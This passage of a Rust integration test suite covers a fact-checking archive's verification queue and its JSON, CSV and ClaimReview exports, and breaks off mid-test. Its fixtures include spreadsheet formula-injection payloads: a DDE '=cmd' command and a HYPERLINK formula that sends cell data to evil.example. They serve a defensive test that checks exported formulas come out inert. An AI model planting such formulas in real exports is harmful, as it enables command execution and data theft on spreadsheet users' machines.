//! The verification queue end to end: the binary on a real SQLite archive
//! built from the articles in `tests/fixtures/queue/` (written for these
//! tests). Times are fixed with `EMBARC_NOW`, so exports are compared byte
//! for byte with `tests/fixtures/expected/` (after replacing the fixture
//! directory's file URL, which depends on where the repository lives). Run
//! with `EMBARC_UPDATE_EXPECTED=1` to rewrite the expected files after an
//! intended change, and review the diff.

mod check_support;
mod common;

use common::{Reply, Server};
use embarc::queue::{Action, Refusal, Status};
use embarc::store::Store;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Output;

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/queue");
const EXPECTED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/expected");

const DAM_URL: &str = "https://x.com/floodwatch_eu/status/1721144944059118002";
const HYPERLINK_POST: &str = "https://twitter.com/totally_real/status/1768012345678901234";
const UNKNOWN_POST: &str = "https://x.com/someone_else/status/1848631530214654141?s=20";

const CLAIMREVIEW_TOML: &str = "[claimreview]\norganisation_name = \"Riverton Fact Desk\"\norganisation_url = \"https://factdesk.example\"\nurl_base = \"https://factdesk.example/claims/\"\n";

/// A temporary archive directory and the binary run against it.
struct Archive {
    tmp: tempfile::TempDir,
}

impl Archive {
    fn new() -> Archive {
        Archive {
            tmp: tempfile::tempdir().unwrap(),
        }
    }

    fn dir(&self) -> PathBuf {
        self.tmp.path().join("archive")
    }

    fn db(&self) -> PathBuf {
        self.dir().join("embarc.db")
    }

    fn command(&self, now: &str, args: &[&str]) -> std::process::Command {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_embarc"));
        cmd.arg("--archive")
            .arg(self.dir())
            .args(args)
            .env("EMBARC_NOW", now)
            .env("EMBARC_ALLOW_PRIVATE", "1")
            .env_remove("EMBARC_USER")
            .env_remove("EMBARC_ARCHIVE");
        cmd
    }

    fn run(&self, now: &str, args: &[&str]) -> Output {
        self.command(now, args).output().unwrap()
    }

    /// Run, expect success, return stdout.
    fn ok(&self, now: &str, args: &[&str]) -> String {
        let out = self.run(now, args);
        assert!(
            out.status.success(),
            "{args:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    }

    /// Run, expect exit code 1, return stderr.
    fn fails(&self, now: &str, args: &[&str]) -> String {
        let out = self.run(now, args);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?} should fail with 1; stdout: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        String::from_utf8(out.stderr).unwrap()
    }

    fn json(&self, now: &str, args: &[&str]) -> Value {
        serde_json::from_str(&self.ok(now, args)).unwrap()
    }

    fn settings(&self, toml: &str) {
        std::fs::write(self.dir().join("embarc.toml"), toml).unwrap();
    }

    fn store(&self) -> Store {
        Store::open(&self.db()).unwrap()
    }
}

const T0: &str = "2025-03-01T09:00:00Z";

/// The fixture articles archived at T0: claims 1 (dam, BREAKING, cited by two
/// articles), 2 (JUST IN, handle mismatch), 3 (СРОЧНО, copied text, no id).
fn fixture_archive() -> Archive {
    let a = Archive::new();
    a.ok(T0, &["archive", "--jobs", "1", FIXTURES]);
    a
}

/// The fixture archive after a day of fact-checking: decisions, an
/// assignment, a note, and two posts queued by hand (4: known post whose
/// text is a spreadsheet formula; 5: a post the archive did not know).
fn decided_archive() -> Archive {
    let a = fixture_archive();
    a.ok(
        "2025-03-01T10:00:00Z",
        &["queue", "assign", "1", "ana", "--by", "desk"],
    );
    a.ok(
        "2025-03-01T10:05:00Z",
        &["queue", "set", "1", "in_progress", "--by", "ana"],
    );
    a.ok(
        "2025-03-02T16:30:00Z",
        &[
            "queue",
            "set",
            "1",
            "false",
            "--by",
            "ana",
            "--note",
            "The operator's live camera shows the dam intact; no flooding was reported",
        ],
    );
    a.ok(
        "2025-03-02T17:00:00Z",
        &[
            "queue",
            "set",
            "2",
            "verified",
            "--by",
            "bo",
            "--note",
            "The mayor's office confirmed the order",
        ],
    );
    a.ok(
        "2025-03-03T08:00:00Z",
        &[
            "queue",
            "note",
            "3",
            "Asked the channel for its source",
            "--by",
            "ana",
        ],
    );
    a.ok(
        "2025-03-03T12:00:00Z",
        &[
            "queue",
            "set",
            "3",
            "inconclusive",
            "--by",
            "ana",
            "--note",
            "No source given; nothing confirms or refutes it",
        ],
    );
    a.ok(
        "2025-03-04T09:00:00Z",
        &[
            "queue",
            "add",
            HYPERLINK_POST,
            "--by",
            "desk",
            "--reason",
            "=cmd|' /C calc'!A0 circulates as the dam video",
        ],
    );
    a.ok(
        "2025-03-04T09:30:00Z",
        &[
            "queue",
            "add",
            UNKNOWN_POST,
            "--by",
            "desk",
            "--reason",
            "Readers ask whether this is real",
        ],
    );
    a
}

/// The export with the fixture directory's URL made location-independent.
fn normalise(s: &str) -> String {
    let dir = std::fs::canonicalize(FIXTURES).unwrap();
    let url = url::Url::from_directory_path(&dir).unwrap().to_string();
    s.replace(&url, "file:///FIXTURES/")
}

fn compare_with_expected(name: &str, actual: &str) {
    let path = Path::new(EXPECTED).join(name);
    let actual = normalise(actual);
    if std::env::var_os("EMBARC_UPDATE_EXPECTED").is_some() {
        std::fs::write(&path, &actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("cannot read {}: {e}", path.display()));
    if expected != actual {
        for (i, (e, a)) in expected.lines().zip(actual.lines()).enumerate() {
            assert_eq!(e, a, "{name}: first difference at line {}", i + 1);
        }
        assert_eq!(expected, actual, "{name} differs in length");
    }
}

// ---------------------------------------------------------------------------
// Snapshot tests of the exports
// ---------------------------------------------------------------------------

/// The queue as listed, and the posts and citations exports, byte for byte
/// as they were before the list was printed claim by claim (and the
/// archive's views and reads were tuned for size).
#[test]
fn lists_and_exports_of_the_fixture_archive_match_the_expected_files() {
    let a = decided_archive();
    let every = "unstarted,in_progress,inconclusive,verified,false";
    compare_with_expected(
        "queue.list.txt",
        &a.ok(T0, &["queue", "list", "--status", every]),
    );
    compare_with_expected(
        "queue.list.json",
        &a.ok(T0, &["queue", "list", "--status", every, "--json"]),
    );
    for what in ["posts", "citations"] {
        for format in ["json", "csv"] {
            compare_with_expected(
                &format!("{what}.{format}"),
                &a.ok(T0, &["export", what, "--format", format]),
            );
        }
    }
}

#[test]
fn exports_of_the_fixture_archive_match_the_expected_files() {
    let a = decided_archive();
    compare_with_expected(
        "queue.json",
        &a.ok(T0, &["export", "queue", "--format", "json"]),
    );
    compare_with_expected(
        "queue.jsonl",
        &a.ok(T0, &["export", "queue", "--format", "jsonl"]),
    );
    compare_with_expected(
        "queue.csv",
        &a.ok(T0, &["export", "queue", "--format", "csv"]),
    );
    a.settings(CLAIMREVIEW_TOML);
    compare_with_expected(
        "queue.claimreview.json",
        &a.ok(T0, &["export", "queue", "--format", "claimreview"]),
    );
    // --status narrows every format; --out writes a file.
    let out = a.tmp.path().join("decided.jsonl");
    a.ok(
        T0,
        &[
            "export",
            "queue",
            "--status",
            "false,verified",
            "--out",
            out.to_str().unwrap(),
        ],
    );
    let ids: Vec<i64> = std::fs::read_to_string(&out)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["id"]
                .as_i64()
                .unwrap()
        })
        .collect();
    assert_eq!(ids, [1, 2]);
}

// ---------------------------------------------------------------------------
// ClaimReview
// ---------------------------------------------------------------------------

fn object<'v>(v: &'v Value, key: &str) -> &'v serde_json::Map<String, Value> {
    v.get(key)
        .and_then(Value::as_object)
        .unwrap_or_else(|| panic!("{key} must be an object in {v}"))
}

fn string<'v>(v: &'v Value, key: &str) -> &'v str {
    v.get(key)
        .and_then(Value::as_str)
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| panic!("{key} must be a non-empty string in {v}"))
}

fn date(s: &str) -> bool {
    chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d").is_ok()
}

#[test]
fn claimreview_has_every_required_field_with_its_type() {
    let a = decided_archive();
    a.settings(CLAIMREVIEW_TOML);
    let all = a.json(T0, &["export", "queue", "--format", "claimreview"]);
    let reviews = all.as_array().expect("an array of ClaimReviews");
    // Only decided claims: 1 false, 2 verified, 3 inconclusive.
    assert_eq!(reviews.len(), 3);
    for r in reviews {
        assert_eq!(string(r, "@context"), "https://schema.org");
        assert_eq!(string(r, "@type"), "ClaimReview");
        let url = string(r, "url");
        assert!(url.starts_with("https://factdesk.example/claims/"), "{url}");
        let claim = string(r, "claimReviewed");
        assert!(claim.chars().count() <= 75, "{claim}");
        assert!(date(string(r, "datePublished")), "{r}");

        let author = object(r, "author");
        assert_eq!(author["@type"], "Organization");
        assert_eq!(author["name"], "Riverton Fact Desk");
        assert_eq!(author["url"], "https://factdesk.example");

        let rating = object(r, "reviewRating");
        assert_eq!(rating["@type"], "Rating");
        for key in ["ratingValue", "bestRating", "worstRating"] {
            assert!(rating[key].is_u64(), "{key} must be a number: {r}");
        }
        assert_eq!(rating["bestRating"], 5);
        assert_eq!(rating["worstRating"], 1);
        assert!(rating["alternateName"].is_string(), "{r}");

        let item = object(r, "itemReviewed");
        assert_eq!(item["@type"], "Claim");
        let who = item["author"].as_object().expect("itemReviewed.author");
        assert_eq!(who["@type"], "Person");
        assert!(who["name"].is_string());
        assert!(date(item["datePublished"].as_str().unwrap()), "{r}");
        // Every appearance is public: the fixture articles are local
        // files, whose file:// URLs would publish a path on this disk.
        let none = Vec::new();
        let appearance = item
            .get("appearance")
            .map_or(&none, |a| a.as_array().expect("appearance array"));
        for ap in appearance {
            assert_eq!(ap["@type"], "CreativeWork");
            let u = url::Url::parse(ap["url"].as_str().unwrap()).unwrap();
            assert_eq!(u.scheme(), "https", "{ap}");
        }
    }
    let by_url = |id: i64| {
        reviews
            .iter()
            .find(|r| r["url"] == format!("https://factdesk.example/claims/{id}"))
            .unwrap()
    };
    // The documented mapping.
    let dam = by_url(1);
    assert_eq!(dam["reviewRating"]["ratingValue"], 1);
    assert_eq!(dam["reviewRating"]["alternateName"], "False");
    assert_eq!(dam["datePublished"], "2025-03-02");
    assert_eq!(dam["itemReviewed"]["datePublished"], "2023-11-05");
    assert_eq!(dam["itemReviewed"]["author"]["name"], "Flood Watch");
    assert_eq!(
        dam["itemReviewed"]["author"]["alternateName"],
        "@floodwatch_eu"
    );
    // The label is not part of the claim; cut at a word boundary.
    assert_eq!(
        dam["claimReviewed"],
        "The dam upstream of Riverton has failed and the water is rising fast in…"
    );
    // The post; the citing articles are local files, so not listed.
    let urls: Vec<&str> = dam["itemReviewed"]["appearance"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["url"].as_str().unwrap())
        .collect();
    assert_eq!(urls, [DAM_URL]);
    assert_eq!(by_url(2)["reviewRating"]["ratingValue"], 5);
    assert_eq!(by_url(2)["reviewRating"]["alternateName"], "Verified");
    let ru = by_url(3);
    assert_eq!(ru["reviewRating"]["ratingValue"], 3);
    assert_eq!(ru["reviewRating"]["alternateName"], "Inconclusive");
    // Multibyte text is cut between words, counted in characters.
    let claim = ru["claimReviewed"].as_str().unwrap();
    assert!(
        claim.starts_with("плотина выше Ривертона") && claim.ends_with('…'),
        "{claim}"
    );
    assert!(claim.chars().count() <= 75);
    assert!(
        claim.len() > 75,
        "Cyrillic takes more bytes than characters"
    );
    // An unidentified post cited only by a local file has no public
    // appearance: the field is left out.
    assert!(ru["itemReviewed"].get("appearance").is_none(), "{ru}");

    // Only verdicts are reviews, whatever --status asks for.
    let open = a.json(
        T0,
        &[
            "export",
            "queue",
            "--format",
            "claimreview",
            "--status",
            "unstarted",
        ],
    );
    assert_eq!(open, Value::Array(vec![]));
}

#[test]
fn claimreview_needs_its_settings() {
    let a = decided_archive();
    let err = a.fails(T0, &["export", "queue", "--format", "claimreview"]);
    assert!(
        err.contains("organisation_name")
            && err.contains("url_base")
            && err.contains("embarc.toml"),
        "{err}"
    );
    a.settings("[claimreview]\norganisation_name = \"X\"\nurl_base = \"factdesk/claims\"\n");
    let err = a.fails(T0, &["export", "queue", "--format", "claimreview"]);
    assert!(
        err.contains("\"factdesk/claims\" is not an http(s) URL"),
        "{err}"
    );
    let err = a.fails(T0, &["export", "posts", "--format", "claimreview"]);
    assert!(err.contains("export queue"), "{err}");
    let err = a.fails(T0, &["export", "citations", "--status", "verified"]);
    assert!(
        err.contains("--status is for `embarc export queue` only"),
        "{err}"
    );
}

// ---------------------------------------------------------------------------
// CSV
// ---------------------------------------------------------------------------

#[test]
fn csv_formulas_come_out_inert() {
    let a = decided_archive();
    let csv_text = a.ok(T0, &["export", "queue", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5);
    let hand = rows.iter().find(|r| &r[col("claim_id")] == "4").unwrap();
    assert_eq!(
        &hand[col("text")],
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Watch the dam collapse\")"
    );
    assert_eq!(
        &hand[col("reason")],
        "'=cmd|' /C calc'!A0 circulates as the dam video"
    );
    assert_eq!(&hand[col("label")], "MANUAL");
    // No cell of any row starts a formula.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    // A multi-line post text stays one quoted cell (RFC 4180).
    let bom = a.ok(
        T0,
        &[
            "export", "queue", "--format", "csv", "--bom", "--status", "verified",
        ],
    );
    assert!(bom.starts_with("\u{feff}claim_id,status,"), "{bom}");
    assert_eq!(bom.lines().count(), 2);
}

// ---------------------------------------------------------------------------
// queue (list)
// ---------------------------------------------------------------------------

fn ids(v: &Value) -> Vec<i64> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_i64().unwrap())
        .collect()
}

#[test]
fn list_shows_text_author_articles_and_warnings_oldest_first() {
    let a = decided_archive();
    let out = a.ok(T0, &["queue", "--all"]);
    let pos = |s: &str| out.find(s).unwrap_or_else(|| panic!("{s:?} not in\n{out}"));
    assert!(
        pos("#1  false  BREAKING  x  Flood Watch (@floodwatch_eu)  posted 2023-11-05")
            < pos("#2  verified")
    );
    assert!(
        pos("#2  verified") < pos("#3  inconclusive")
            && pos("#3  inconclusive") < pos("#4  unstarted  MANUAL")
    );
    pos("🚨 BREAKING: The dam upstream of Riverton has failed");
    pos("cited by  file://");
    pos("02-followup.md");
    pos(
        "warning   handle_mismatch: the embed shows @cityhall_news but its link names @cityhall_real",
    );
    pos("assigned  ana");
    pos("(text unknown) queued because: Readers ask whether this is real");
    // The same list as `queue list`.
    assert_eq!(a.ok(T0, &["queue", "list", "--all"]), out);
}

#[test]
fn list_filters() {
    let a = decided_archive();
    let q = |args: &[&str]| {
        let mut all = vec!["queue", "--all", "--json"];
        all.extend_from_slice(args);
        ids(&a.json(T0, &all))
    };
    assert_eq!(q(&[]), [1, 2, 3, 4, 5]);
    // Without --all or --status: the open claims only.
    assert_eq!(ids(&a.json(T0, &["queue", "--json"])), [4, 5]);
    assert_eq!(q(&["--status", "unstarted"]), [4, 5]);
    assert_eq!(q(&["--status", "false", "--status", "verified"]), [1, 2]);
    assert_eq!(q(&["--status", "verified,inconclusive"]), [2, 3]);
    assert_eq!(q(&["--label", "just in"]), [2]);
    assert_eq!(q(&["--label", "MANUAL"]), [4, 5]);
    assert_eq!(q(&["--platform", "x"]), [1, 2, 3, 4, 5]);
    assert_eq!(
        q(&["--platform", "twitter"]),
        [1, 2, 3, 4, 5],
        "an alias of x"
    );
    assert!(q(&["--platform", "bluesky"]).is_empty());
    // An unknown platform is a usage error listing the known ones, not an
    // empty list.
    let err = a.fails(T0, &["queue", "--platform", "foo"]);
    assert!(
        err.contains("unknown platform \"foo\"") && err.contains("bluesky, mastodon"),
        "{err}"
    );
    assert_eq!(q(&["--since", "2025-03-04"]), [4, 5]);
    assert_eq!(q(&["--since", "2025-03-04T09:15:00+00:00"]), [5]);
    // A duration ago, from the real clock, as `export --since` takes it.
    assert_eq!(q(&["--since", "36500d"]), [1, 2, 3, 4, 5]);
    assert!(q(&["--since", "1d"]).is_empty(), "queued in 2025");
    assert_eq!(q(&["--assignee", "ANA"]), [1]);
    assert_eq!(
        q(&["--status", "false", "--assignee", "bo"]),
        Vec::<i64>::new()
    );
    let out = a.run(T0, &["queue", "--label", "nothing"]);
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("no open claims match"), "{err}");
    // A label no claim carries is named, with the labels there are.
    assert!(
        err.contains("no claim carries the label \"nothing\" (labels in the queue: BREAKING, JUST IN, MANUAL)"),
        "{err}"
    );
    // A label some claim carries, with no open claim: no such hint.
    let out = a.run(
        T0,
        &[
            "queue",
            "--label",
            "breaking",
            "--status",
            "false",
            "--assignee",
            "bo",
        ],
    );
    assert!(!String::from_utf8_lossy(&out.stderr).contains("carries the label"));
    let err = a.fails(T0, &["queue", "--since", "last week"]);
    assert!(err.contains("\"last week\" is not a time"), "{err}");
}

#[test]
fn list_json_carries_the_whole_claim() {
    let a = decided_archive();
    let all = a.json(T0, &["queue", "--all", "--json"]);
    let dam = &all[0];
    assert_eq!(dam["status"], "false");
    assert_eq!(dam["assignee"], "ana");
    assert_eq!(dam["decided_at"], "2025-03-02T16:30:00.000Z");
    assert_eq!(dam["decided_by"], "ana");
    assert_eq!(dam["post"]["post_url"], DAM_URL);
    assert_eq!(dam["post"]["posted_at"], "2023-11-05T12:38:26.647Z");
    assert_eq!(dam["citations"].as_array().unwrap().len(), 2);
    assert_eq!(dam["events"].as_array().unwrap().len(), 4);
    assert_eq!(all[1]["warnings"][0]["kind"], "handle_mismatch");
}

// ---------------------------------------------------------------------------
// The post's liveness (`embarc check`) in the queue
// ---------------------------------------------------------------------------

const DAM_ID: &str = "1721144944059118002";
const DAM_COPY: &str = "http://web.archive.org/web/20231105130000/https://x.com/floodwatch_eu/status/1721144944059118002";

/// X's endpoints on a local server: the dam post is live while `alive`
/// holds, then deleted (404 from both endpoints), with a Wayback copy;
/// every other post's endpoints fail (`unknown`).
fn x_server(alive: std::sync::Arc<std::sync::atomic::AtomicBool>) -> Server {
    Server::start(move |req| {
        let json = |status, body: &str| Reply::status(status, "application/json", body);
        let route = req.path.split(['/', '?']).nth(1).unwrap_or_default();
        let dam = req.path.contains(DAM_ID);
        let up = alive.load(std::sync::atomic::Ordering::SeqCst);
        match route {
            "syn" if dam && up => json(
                200,
                &format!(
                    r#"{{"__typename":"Tweet","id_str":"{DAM_ID}","text":"🚨 BREAKING: The dam upstream of Riverton has failed and the water is rising fast in the old town, residents must leave now","created_at":"2023-11-05T12:38:26.000Z","lang":"en","user":{{"name":"Flood Watch","screen_name":"floodwatch_eu"}}}}"#
                ),
            ),
            "syn" | "xo" if dam => Reply::status(404, "text/plain", "Not Found"),
            "wb" => json(
                200,
                &format!(
                    r#"{{"archived_snapshots":{{"closest":{{"available":true,"status":"200","timestamp":"20231105130000","url":"{DAM_COPY}"}}}}}}"#
                ),
            ),
            _ => Reply::status(500, "text/plain", "unavailable"),
        }
    })
}

/// `embarc check --posts` at `now`, every endpoint on `server`.
fn check_posts(a: &Archive, server: &Server, now: &str) {
    let mut cmd = a.command(now, &["check", "--posts", "--stale", "1h"]);
    for (var, path) in check_support::ENDPOINTS {
        cmd.env(var, server.url(path));
    }
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "check failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The block `embarc queue` prints for claim `id`.
fn list_entry(list: &str, id: i64) -> String {
    let start = list
        .find(&format!("#{id}  "))
        .unwrap_or_else(|| panic!("no #{id} in\n{list}"));
    let rest = &list[start..];
    rest[..rest.find("\n\n").unwrap_or(rest.len())].to_string()
}

const ALIVE_AT: &str = "2025-03-05T08:00:00Z";
const GONE_AT: &str = "2025-03-06T09:15:00Z";

#[test]
fn a_checked_post_shows_its_state_in_list_show_and_exports() {
    let a = decided_archive();
    check_support::fast_config(&a.dir());
    let alive = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let server = x_server(alive.clone());
    check_posts(&a, &server, ALIVE_AT);
    alive.store(false, std::sync::atomic::Ordering::SeqCst);
    check_posts(&a, &server, GONE_AT);

    // The list: the dam post's state, when it was checked and its copy;
    // nothing for the copied post, which cannot be checked.
    let list = a.ok(T0, &["queue", "--all"]);
    let dam = list_entry(&list, 1);
    assert!(
        dam.contains("\n    state     gone (deleted), checked 2025-03-06 09:15\n"),
        "{dam}"
    );
    assert!(
        dam.contains(&format!("\n    archived  {DAM_COPY}")),
        "{dam}"
    );
    let copied = list_entry(&list, 3);
    assert!(
        !copied.contains("state") && !copied.contains("archived"),
        "{copied}"
    );

    // show: the state and every check, oldest first.
    let show = a.ok(T0, &["queue", "show", "1"]);
    for want in [
        "state      gone (deleted), checked 2025-03-06T09:15:00.000Z\n",
        &format!("archived   {DAM_COPY}\n"),
        "checks (2):\n  2025-03-05T08:00:00.000Z  alive  HTTP 200  x_syndication",
        "\n  2025-03-06T09:15:00.000Z  gone (deleted)  HTTP 404  x_syndication+x_oembed\n",
        &format!("      archived: {DAM_COPY}\n"),
    ] {
        assert!(show.contains(want), "{want:?} not in\n{show}");
    }
    // The copied post has no id: it cannot be checked, and says so.
    let never = a.ok(T0, &["queue", "show", "3"]);
    assert!(
        never.contains("state      not checkable (no post id)")
            && never.contains("checks (0):\n  (never checked)"),
        "{never}"
    );
    let json = a.json(T0, &["queue", "show", "1", "--json"]);
    let checks = json["checks"].as_array().unwrap();
    let states: Vec<&str> = checks
        .iter()
        .map(|c| c["state"].as_str().unwrap())
        .collect();
    assert_eq!(states, ["alive", "gone"]);
    assert_eq!(json["latest_check"], checks[1]);

    // The exports: latest_check and the post's state in JSON and JSONL.
    let expected_check = serde_json::json!({
        "checked_at": "2025-03-06T09:15:00.000Z",
        "state": "gone",
        "reason": "deleted",
        "http_status": 404,
        "evidence": checks[1]["evidence"],
        "endpoint": "x_syndication+x_oembed",
        "archived_url": DAM_COPY,
    });
    let exported = a.json(T0, &["export", "queue", "--format", "json"]);
    let first = &exported[0];
    assert_eq!(first["id"], 1);
    assert_eq!(first["latest_check"], expected_check);
    assert!(
        !expected_check["evidence"].as_str().unwrap().is_empty(),
        "{expected_check}"
    );
    let post = &first["post"];
    assert_eq!(post["state"], "gone");
    assert_eq!(post["reason"], "deleted");
    assert_eq!(post["checked_at"], "2025-03-06T09:15:00.000Z");
    assert_eq!(post["archived_url"], DAM_COPY);
    let copied = &exported[2];
    assert_eq!(copied["id"], 3);
    assert_eq!(copied["latest_check"], Value::Null);
    assert_eq!(copied["post"]["state"], Value::Null);
    // JSONL and `queue --json` carry the same claims.
    let jsonl: Vec<Value> = a
        .ok(T0, &["export", "queue", "--format", "jsonl"])
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(Value::Array(jsonl), exported);
    assert_eq!(a.json(T0, &["queue", "--all", "--json"]), exported);

    // CSV: the state columns, by name.
    let csv_text = a.ok(T0, &["export", "queue", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell = |row: usize, name: &str| -> String {
        let col = header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {header:?}"));
        rows[row][col].to_string()
    };
    assert_eq!(cell(0, "claim_id"), "1");
    assert_eq!(cell(0, "state"), "gone");
    assert_eq!(cell(0, "state_reason"), "deleted");
    assert_eq!(cell(0, "checked_at"), "2025-03-06T09:15:00.000Z");
    assert_eq!(cell(0, "archived_url"), DAM_COPY);
    assert_eq!(
        cell(0, "reason"),
        "",
        "the claim's own reason column is apart"
    );
    assert_eq!(cell(2, "claim_id"), "3");
    assert_eq!(cell(2, "state"), "");
    assert_eq!(cell(2, "checked_at"), "");
}

#[test]
fn an_archive_is_needed() {
    let a = Archive::new();
    let err = a.fails(T0, &["queue"]);
    assert!(
        err.contains("no archive at") && err.contains("embarc archive"),
        "{err}"
    );
}

// ---------------------------------------------------------------------------
// queue show
// ---------------------------------------------------------------------------

#[test]
fn show_gives_snapshots_citations_warnings_and_history() {
    let a = decided_archive();
    let out = a.ok(T0, &["queue", "show", "1"]);
    for want in [
        "claim #1  BREAKING  false",
        "decided    2025-03-02T16:30:00.000Z by ana",
        "assigned   ana",
        "url        https://x.com/floodwatch_eu/status/1721144944059118002",
        "posted     2023-11-05T12:38:26.647Z",
        "snapshots (1):",
        "    | 🚨 BREAKING: The dam upstream",
        "citations (2):",
        "  embed blockquote in file://",
        "  text plain-text in file://",
        "history (4 events):",
        "  2025-03-01T09:00:00.000Z  embarc  queued as unstarted (labelled BREAKING in file://",
        "  2025-03-01T10:00:00.000Z  desk  assigned to ana",
        "  2025-03-01T10:05:00.000Z  ana  unstarted -> in_progress",
        "  2025-03-02T16:30:00.000Z  ana  in_progress -> false (The operator's live camera",
    ] {
        assert!(out.contains(want), "{want:?} not in\n{out}");
    }
    let two = a.ok(T0, &["queue", "show", "2"]);
    assert!(
        two.contains("warnings (1):\n  handle_mismatch: the embed shows @cityhall_news"),
        "{two}"
    );
    let five = a.ok(T0, &["queue", "show", "5"]);
    assert!(five.contains("(none: only the URL is known)"), "{five}");
    assert!(
        five.contains("reason     Readers ask whether this is real"),
        "{five}"
    );

    let json = a.json(T0, &["queue", "show", "3", "--json"]);
    assert_eq!(json["id"], 3);
    assert_eq!(json["post"]["post_id"], Value::Null);
    assert_eq!(json["snapshots"][0]["display_date"], "6 ноября 2023 г.");
    assert_eq!(json["snapshots"][0]["labels"][0], "BREAKING");
    let actions: Vec<&str> = json["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["created", "note", "status"]);
}

#[test]
fn unknown_ids_are_an_error() {
    let a = fixture_archive();
    for args in [
        &["queue", "show", "99"][..],
        &["queue", "set", "99", "verified", "--by", "ana"],
        &["queue", "assign", "99", "ana", "--by", "ana"],
        &["queue", "note", "99", "hello", "--by", "ana"],
    ] {
        let err = a.fails(T0, args);
        assert!(err.contains("there is no claim 99"), "{args:?}: {err}");
    }
    let err = a.fails(T0, &["queue", "show", "one"]);
    assert!(err.contains("invalid value 'one'"), "{err}");
    // Not a number: say what an id is, not how integer parsing failed.
    for args in [
        &["queue", "set", "abc", "verified", "--by", "ana"][..],
        &["queue", "assign", "x1", "ana"],
        &["queue", "note", "-", "hello"],
        &["queue", "show", "0"],
    ] {
        let err = a.fails(T0, args);
        assert!(
            err.contains("a claim id is the number after # in `embarc queue`")
                && !err.contains("invalid digit"),
            "{args:?}: {err}"
        );
    }
    // The id as the list prints it is taken too.
    assert!(a.ok(T0, &["queue", "show", "#1"]).contains("claim #1"));
}

#[test]
fn an_unknown_id_is_said_before_asking_who_changes_it() {
    let a = fixture_archive();
    for args in [
        &["queue", "set", "999", "verified"][..],
        &["queue", "assign", "999", "ana"],
        &["queue", "note", "999", "hello"],
    ] {
        let out = a
            .command(T0, args)
            .env_remove("USER")
            .env_remove("USERNAME")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("there is no claim 999") && !err.contains("--by"),
            "{args:?}: {err}"
        );
    }
    // A claim that exists takes the system's name for the running user
    // when neither --by, EMBARC_USER, USER nor USERNAME names anyone (cron
    // jobs and containers often have no USER).
    let out = a
        .command(T0, &["queue", "set", "1", "verified"])
        .env_remove("USER")
        .env_remove("USERNAME")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let shown = a.ok(T0, &["queue", "show", "1", "--json"]);
    let claim: serde_json::Value = serde_json::from_str(&shown).unwrap();
    let system = std::process::Command::new("id")
        .arg("-un")
        .output()
        .unwrap();
    let system = String::from_utf8(system.stdout).unwrap();
    assert_eq!(claim["decided_by"], system.trim());
}

#[test]
fn a_broken_settings_file_is_named_by_every_command() {
    let a = fixture_archive();
    let file = a.dir().join("embarc.toml");
    for toml in [
        "[labels\n",
        "[claimreviw]\norganisation_name = \"x\"\n",
        "[check]\ntimeout = \"soon\"\n",
    ] {
        a.settings(toml);
        for args in [
            &["status"][..],
            &["queue"],
            &["queue", "show", "1"],
            &["queue", "set", "1", "verified", "--by", "ana"],
            &["export", "posts"],
            &["check", "--limit", "0"],
        ] {
            let err = a.fails(T0, args);
            assert!(
                err.contains(&format!("invalid settings in {}", file.display())),
                "{toml:?} {args:?}: {err}"
            );
        }
    }
    // Nothing was changed by the refused commands.
    std::fs::remove_file(&file).unwrap();
    assert!(
        a.ok(T0, &["queue", "show", "1"])
            .contains("claim #1  BREAKING  unstarted")
    );
}

// ---------------------------------------------------------------------------
// queue set / assign / note
// ---------------------------------------------------------------------------

#[test]
fn every_status_transition_through_the_binary() {
    let a = fixture_archive();
    let mut now = chrono::DateTime::parse_from_rfc3339("2025-03-02T00:00:00Z").unwrap();
    let mut tick = || {
        now += chrono::Duration::minutes(1);
        now.to_rfc3339()
    };
    let mut current = Status::Unstarted;
    let mut expected: Vec<(Status, Status)> = Vec::new();
    for from in Status::ALL {
        for to in Status::ALL {
            if current != from {
                a.ok(
                    &tick(),
                    &[
                        "queue",
                        "set",
                        "2",
                        from.as_str(),
                        "--by",
                        "ana",
                        "--note",
                        "reset",
                    ],
                );
                expected.push((current, from));
                current = from;
            }
            if from == to {
                let err = a.fails(
                    &tick(),
                    &[
                        "queue",
                        "set",
                        "2",
                        from.as_str(),
                        "--by",
                        "ana",
                        "--note",
                        "x",
                    ],
